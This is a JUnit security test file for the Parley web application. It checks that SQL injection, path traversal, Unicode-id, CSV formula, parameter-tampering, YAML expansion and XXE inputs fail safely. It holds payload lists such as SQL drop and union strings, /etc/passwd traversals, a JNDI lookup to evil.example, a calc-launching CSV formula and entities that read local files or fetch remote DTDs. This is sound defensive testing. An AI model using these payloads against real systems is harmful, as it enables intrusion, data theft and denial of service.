package org.parley.web.attack;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.parley.Effort;
import org.parley.casefile.CaseReader;
import org.parley.casefile.LoadResult;
import org.parley.casefile.folder.CaseFolder;
import org.parley.exchange.tables.CaseTable;
import org.parley.genius.file.BadFileException;
import org.parley.genius.file.InputFile;
import org.parley.genius.file.XmlReader;
import org.parley.web.SmallWorld;
import org.parley.web.WebClient;
import org.parley.web.access.Route;
import org.parley.web.view.Address;

/// Values that mean something else to a database, a file system, a spreadsheet or a reader of
/// files.
class InjectionAttackTest {

  private static final List<String> SQL =
      List.of(
          "' or '1'='1",
          "'; drop table entry; --",
          "1 union select password from account --",
          "\\'; delete from account; --",
          "p2' and sleep(5) and '1'='1");

  private static final List<String> IDS =
      List.of(
          "\u202e2p",
          "p\u200b2",
          "\uff50\uff12",
          "p2\u0301",
          "\ud83c\udf0d",
          "\u0430l-x",
          "p2\u0000",
          "p2\r\nX: y",
          "p2\u2028",
          "P2",
          "\u0130",
          "x".repeat(3_000),
          "-",
          "..",
          ".",
          "__proto__",
          "constructor",
          "null",
          "NaN",
          "%",
          "%2e%2e",
          "%u0041",
          "${7*7}",
          "#{7*7}",
          "{{7*7}}",
          "${jndi:ldap://evil.example/x}");

  /// Bytes of an address that are no UTF-8, or no address at all.
  private static final List<String> BROKEN =
      List.of(
          "%ED%A0%80",
          "%C0%AE%C0%AE", "%FF", "%80", "%F8%88%80%80%80", "%00", "%0d%0aX:y", "%E2%28%A1");

  private static final List<String> OUTSIDE =
      List.of(
          "../../etc/passwd",
          "..%2f..%2fetc%2fpasswd",
          "%2e%2e/%2e%2e/etc/passwd",
          "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
          "..%252f..%252fetc%252fpasswd",
          "..%5c..%5cetc%5cpasswd",
          "..\\..\\etc\\passwd".replace("\\", "%5C"),
          "....//....//etc/passwd",
          "..;/..;/etc/passwd",
          "%c0%ae%c0%ae/etc/passwd",
          "parley.css%00.html",
          "/etc/passwd",
          "%2fetc%2fpasswd",
          "file:%2f%2f%2fetc%2fpasswd",
          "..%2fbrief.css",
          "fonts%2fSourceSans3-Regular.ttf",
          "WEB-INF/web.xml",
          "META-INF/MANIFEST.MF",
          "org/parley/store/migrations/V1__journal.sql",
          ".git/config",
          "parley.css/..",
          "PARLEY.CSS");

  @TempDir static Path folder;
  private static Target target;
  private static Set<String> parameters;

  @BeforeAll
  static void start() throws Exception {
    target = new Target(folder, SmallWorld.build());
    parameters = Addresses.parameters();
  }

  @AfterAll
  static void stop() {
    target.close();
  }

  private static String path(String value) {
    return WebClient.encoded(value).replace("+", "%20");
  }

  /// Whether an answer is calm, and tells nothing of what lies behind.
  private static boolean isCalm(HttpResponse<String> answer) {
    String body = answer.body();
    return (answer.statusCode() < 500 || answer.statusCode() == 503)
        && !body.contains("JdbcSQL")
        && !body.contains("org.h2")
        && !body.contains("Syntax error")
        && !body.contains("Exception")
        && !body.contains("root:x:")
        && answer.headers().firstValue("X").isEmpty();
  }

  private static String said(HttpResponse<String> answer) {
    return answer.statusCode() + " " + Jsoup.parse(answer.body()).select("main").text();
  }

  @Test
  void noValueBecomesAStatement() {
    String before = target.state();
    try (Attacks attacks = new Attacks("SQL injection")) {
      Target.Client local = target.local();
      for (Route route : target.local.routes()) {
        if (!route.isSafe() || route.kind() == Route.Kind.STREAM) {
          continue;
        }
        for (String sql : route.path().contains("{") ? SQL : List.<String>of()) {
          HttpResponse<String> answer = local.get(Addresses.with(route, path(sql)));
          attacks.tried(
              route.path() + " " + sql, isCalm(answer) && answer.statusCode() >= 300, said(answer));
        }
        if (!route.path().startsWith("/then/")) {
          Map<String, String> all = new LinkedHashMap<>();
          for (String name : parameters) {
            all.put(name, SQL.get(all.size() % SQL.size()));
          }
          HttpResponse<String> answer =
              local.get(Addresses.some(route) + "?" + WebClient.encoded(all));
          attacks.tried(route.path() + " every parameter", isCalm(answer), said(answer));
        }
      }
      for (String sql : SQL) {
        for (String place :
            List.of(
                "/search?q=",
                "/claims?q=",
                "/claims?speaker=",
                "/complete?q=",
                "/versions/p2?from=",
                "/sources?page=")) {
          HttpResponse<String> answer = local.get(place + WebClient.encoded(sql));
          attacks.tried(place + sql, isCalm(answer), said(answer));
        }
        HttpResponse<String> audit = target.as("ann").get("/audit?who=" + WebClient.encoded(sql));
        attacks.tried(
            "/audit?who=" + sql, isCalm(audit) && !audit.body().contains("<td>/"), said(audit));
        Target.Client nobody = target.nobody();
        HttpResponse<String> in =
            nobody.form(
                "/sign-in", Map.of("name", "ann" + sql, "password", sql, "token", nobody.token()));
        attacks.tried(
            "sign in as ann" + sql, List.of(401, 429).contains(in.statusCode()), said(in));
        Target.Client bearer = target.nobody();
        HttpResponse<String> asked =
            bearer.send(bearer.request("/").header("Authorization", "Bearer " + sql).GET());
        attacks.tried("token " + sql, asked.statusCode() == 303, said(asked));
        Target.Client baker = target.nobody();
        baker.cookie = "__Host-parley=" + sql.replace(";", "%3B").replace(" ", "%20");
        HttpResponse<String> baked = baker.get("/");
        attacks.tried("cookie " + sql, baked.statusCode() == 303, said(baked));
      }
      for (Route route : target.local.routes()) {
        if (!route.isSafe()) {
          Map<String, String> fields = new LinkedHashMap<>();
          for (String name : parameters) {
            fields.put(name, SQL.get(fields.size() % SQL.size()));
          }
          for (String action : List.of("save", "refresh", "add:texts", "remove:texts/0", "")) {
            fields.put("_do", action);
            fields.put("token", local.token());
            HttpResponse<String> answer = local.form(Addresses.some(route), fields);
            attacks.tried(
                "POST " + route.path() + " " + action,
                isCalm(answer) && (answer.statusCode() != 303 || takesTexts(route)),
                said(answer));
          }
        }
      }
      assertEquals(before, target.state(), "nothing was changed");
    }
  }

  /// A text to be read may say anything.
  private static boolean takesTexts(Route route) {
    return route.path().equals(Address.READ.path()) || route.path().equals(Address.QUEUE.path());
  }

  /// What a form carries for itself, exchanged for something else.
  @Test
  void aFormThatWasTamperedWithIsExplained() {
    String before = target.state();
    List<String> junk =
        List.of(
            "",
            "x",
            "- {",
            "- {id: p2}",
            "- [1, 2]",
            "- &a [*a]",
            "- !!java.lang.Runtime {}",
            "\u0000",
            "- {id: p2, number: 2}\n- {id: p3}");
    try (Attacks attacks = new Attacks("parameter tampering")) {
      Target.Client local = target.local();
      for (String path : List.of("/edit/points/p2", "/edit/claims/c1", "/edit/parties/A")) {
        Map<String, String> fields = MarkupAttackTest.fields(local.get(path).body());
        for (String hidden : List.of("_base", "_theirs", "_form", "_do", "_why", "id")) {
          for (String value : junk) {
            if (hidden.equals("_form")
                || hidden.equals("_why")
                || (hidden.equals("_do") && value.isEmpty())
                || (hidden.equals("_theirs") && value.isEmpty())) {
              continue;
            }
            Map<String, String> sent = new LinkedHashMap<>(fields);
            sent.put("_do", "save");
            sent.put(hidden, value);
            sent.put("token", local.token());
            if (hidden.equals("_do")) {
              sent.put("_base", "x");
            }
            HttpResponse<String> answer = local.form(path, sent);
            attacks.tried(path + " " + hidden + " = " + value, isCalm(answer), said(answer));
          }
        }
        HttpResponse<String> presence =
            local.form(
                path.replace("/edit/", "/presence/"),
                Map.of("_form", "../../x", "_base", "- {", "token", local.token()));
        attacks.tried(path + " presence", isCalm(presence), said(presence));
      }
      assertEquals(before, target.state(), "nothing was changed");
    }
  }

  @Test
  void strangeIdsAreNotOnRecord() {
    // as a rule each address takes every other of the ids, in turn
    int every = Effort.of(2, 1);
    int turn = 0;
    try (Attacks attacks = new Attacks("Unicode in ids")) {
      for (Route route : target.local.routes()) {
        if (!route.isSafe() || !route.path().contains("{")) {
          continue;
        }
        turn++;
        for (int i = turn % every; i < IDS.size(); i += every) {
          String id = IDS.get(i);
          HttpResponse<String> answer = target.local().get(Addresses.with(route, path(id)));
          attacks.tried(
              route.path() + " " + id,
              isCalm(answer) && answer.statusCode() >= 300 && !answer.body().contains("49</"),
              said(answer));
        }
        for (String id : BROKEN) {
          HttpResponse<String> answer = target.local().get(Addresses.with(route, id));
          attacks.tried(
              route.path() + " " + id, isCalm(answer) && answer.statusCode() >= 300, said(answer));
        }
      }
      for (String id : IDS) {
        Target.Client local = target.local();
        HttpResponse<String> answer =
            local.form(
                "/edit/parties",
                Map.of(
                    "id", id, "name", "x", "kind", "state", "_do", "save", "token", local.token()));
        boolean taken = List.of("null", "constructor", "P2", "NaN", "__proto__").contains(id);
        attacks.tried("a party called " + id, answer.statusCode() == 422 || taken, said(answer));
      }
    }
  }

  @Test
  void noPathLeadsOutside() throws Exception {
    try (Attacks attacks = new Attacks("path traversal")) {
      for (String path : OUTSIDE) {
        for (String begin : List.of("/assets/", "/", "/then/1/assets/", "/export/")) {
          String answer =
              Target.raw(
                  target.local.port(),
                  "GET "
                      + begin
                      + path
                      + " HTTP/1.1\r\nHost: 127.0.0.1:"
                      + target.local.port()
                      + "\r\nConnection: close\r\n\r\n");
          String status = answer.split(" ", 3)[1];
          attacks.tried(
              begin + path,
              (status.startsWith("4") || (path.equals("parley.css/..") && status.equals("200")))
                  && !answer.contains("root:x:")
                  && !answer.contains("create table"),
              answer);
        }
      }
      Path outside = Files.createDirectories(folder.resolve("outside"));
      Files.writeString(outside.resolve("secret.yaml"), "case: {title: Secret}\n");
      Path inside = Files.createDirectories(folder.resolve("inside"));
      Files.writeString(inside.resolve("a.yaml"), "case: {title: Open}\n");
      Files.createSymbolicLink(inside.resolve("b.yaml"), outside.resolve("secret.yaml"));
      Files.createSymbolicLink(inside.resolve("c"), outside);
      LoadResult loaded = CaseFolder.of(inside).load();
      attacks.tried(
          "links out of a case folder", !loaded.toString().contains("Secret"), loaded.toString());
    }
  }

  @Test
  void noCellIsAFormula() throws Exception {
    Path other = Files.createDirectories(folder.resolve("formulas"));
    try (Target formulas = new Target(other, HostileWorld.build().contents());
        Attacks attacks = new Attacks("CSV injection")) {
      for (String name : List.of("claims", "items")) {
        String csv = formulas.local().get("/export/" + name + ".csv").body();
        assertTrue(name.equals("items") || csv.contains("1+1"), csv);
        for (var row :
            org.apache.commons.csv.CSVFormat.RFC4180.parse(new java.io.StringReader(csv))) {
          for (String cell : row) {
            attacks.tried(
                name + " " + cell,
                cell.isEmpty()
                    || "=+-@|%\t\r\n\uff1d\uff0b\uff0d\uff20".indexOf(cell.charAt(0)) < 0,
                cell);
          }
        }
      }
    }
    try (Attacks attacks = new Attacks("CSV injection prefixes")) {
      for (String begin :
          List.of(
              "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "|", "%", "\uff1d", "\uff0b", "\uff0d",
              "\uff20", "\u00a0=", "\ufeff=", "\u200b=")) {
        StringBuilder csv = new StringBuilder();
        new CaseTable(
                List.of("words"), List.of(Map.of("words", List.of(begin + "cmd|' /C calc'!A0"))))
            .toCsv(csv);
        String cell = csv.toString().replaceFirst("words\\R\"?", "");
        attacks.tried("cell " + begin, cell.startsWith("'"), cell);
      }
    }
  }

  /// Small texts that would grow without end, or name files and machines, in a case and in a form.
  @Test
  void filesThatGrowAreRefused() throws IOException {
    Map<String, String> yaml = new LinkedHashMap<>();
    StringBuilder laughs = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
    for (int i = 1; i < 12; i++) {
      laughs.append(
          String.format(
              Locale.ROOT,
              "a%d: &a%d [%s]\n",
              i,
              i,
              ("*a" + (i - 1) + ", ").repeat(9) + "*a" + (i - 1)));
    }
    yaml.put("a laugh that multiplies", laughs.toString());
    yaml.put("a list in itself", "a: &a [*a]\n");
    yaml.put("a merge of itself", "a: &a {<<: *a}\n");
    yaml.put(
        "a class to make",
        "case: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil.example\"]]\n");
    yaml.put("brackets without end", "a: " + "[".repeat(100_000) + "\n");
    yaml.put("braces without end", "a: " + "{b: ".repeat(100_000) + "\n");
    yaml.put("lists without end", "- ".repeat(100_000) + "\n");
    yaml.put("one long name", "x".repeat(3_000_000) + ": 1\n");
    yaml.put("many keys", "k: 1\n".repeat(200_000));
    yaml.put("many documents", "---\na: 1\n".repeat(50_000));
    yaml.put(
        "a whole number too long",
        "case: {title: x}\npoints: [{id: p, weight: " + "9".repeat(100_000) + "}]\n");
    yaml.put("a tag to include", "case: !include /etc/passwd\n");
    yaml.put("zero bytes", "case: {title: \"a\0b\"}\n");
    try (Attacks attacks = new Attacks("entity expansion")) {
      yaml.forEach(
          (name, text) -> {
            String came;
            try {
              came =
                  CaseReader.read(Map.of("a.yaml", text)) instanceof LoadResult.Rejected
                      ? ""
                      : "read";
            } catch (StackOverflowError | OutOfMemoryError | RuntimeException e) {
              came = e.toString();
            }
            attacks.tried("YAML: " + name, came.isEmpty(), came);
          });
      for (String xml :
          List.of(
              "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;\">]><x>&b;</x>",
              "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
              "<!DOCTYPE x [<!ENTITY % e SYSTEM \"http://evil.example/e.dtd\">%e;]><x/>",
              "<!DOCTYPE x SYSTEM \"http://evil.example/e.dtd\"><x/>",
              "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\" parse=\"text\"/></x",
              "<x>".repeat(200_000),
              "<x " + "a".repeat(100) + "=\"" + "y".repeat(2_000_000) + "\"><",
              "<x>&#0;</x>",
              "<?xml version=\"1.0\" encoding=\"UTF-7\"?><x>+ADw-/x>")) {
        String came;
        try {
          XmlReader.read(InputFile.of("x.xml", xml));
          came = "read";
        } catch (BadFileException e) {
          came = "";
        } catch (StackOverflowError | OutOfMemoryError | RuntimeException e) {
          came = e.toString();
        }
        attacks.tried("XML: " + xml.substring(0, Math.min(60, xml.length())), came.isEmpty(), came);
      }
    }
  }
}
